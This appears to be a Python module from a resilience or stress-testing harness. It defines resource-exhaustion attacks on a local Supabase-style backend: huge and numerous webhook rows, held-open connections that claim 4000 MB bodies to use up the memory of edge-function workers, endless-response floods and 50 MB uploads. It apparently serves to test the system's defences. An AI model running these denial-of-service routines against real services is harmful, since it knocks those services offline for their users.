"""Work that requests leave behind: rows for pg_net, calls of edge functions."""

from __future__ import annotations

import socket
import time

from client import ATTACKER, Connection, Target

from . import attack


@attack("jobs/large-webhooks", seconds=12)
def large_webhooks(target: Target) -> None:
    """Rows of 8 MB in a table with a webhook, whose receiver never answers."""
    body = b'{"body":"' + b"x" * 8_000_000 + b'"}'
    target.repeat(2, lambda connection, _: connection.send("POST", "/rest/v1/hooked", body, Content_Type="application/json")[0])


@attack("jobs/many-webhooks", seconds=8)
def many_webhooks(target: Target) -> None:
    body = b"[" + b",".join([b'{"body":"x"}'] * 2000) + b"]"
    target.repeat(2, lambda connection, _: connection.send("POST", "/rest/v1/hooked", body, Content_Type="application/json")[0])


@attack("functions/calls-that-keep-their-memory", seconds=20)
def retired_workers(target: Target) -> None:
    """Each sends what takes a worker over nine tenths of its memory and stays open: the next call needs a further worker."""
    held = []
    while not target.is_over():
        try:
            connection = socket.create_connection(("127.0.0.1", target.api), timeout=5, source_address=(ATTACKER, 0))
            head = "POST /functions/v1/buffer HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\n"
            connection.sendall(f"{head}Content-Length: {4000 << 20}\r\n\r\n".encode())
            held.append(connection)
            for _ in range(250):
                if target.is_over():
                    break
                connection.sendall(bytes(1 << 20))
            target.note("sent")
        except OSError as error:
            target.note(type(error).__name__)
        time.sleep(0.5)
    for connection in held:
        connection.close()


@attack("functions/lines-without-an-end", seconds=8)
def shouting(target: Target) -> None:
    def send(connection: Connection, _: int) -> int:
        return connection.send("POST", "/functions/v1/shout")[0]

    target.repeat(4, send)


@attack("functions/large-bodies", seconds=8)
def large_bodies(target: Target) -> None:
    body = bytes(50 << 20)
    target.repeat(4, lambda connection, _: connection.send("POST", "/functions/v1/buffer", body)[0])
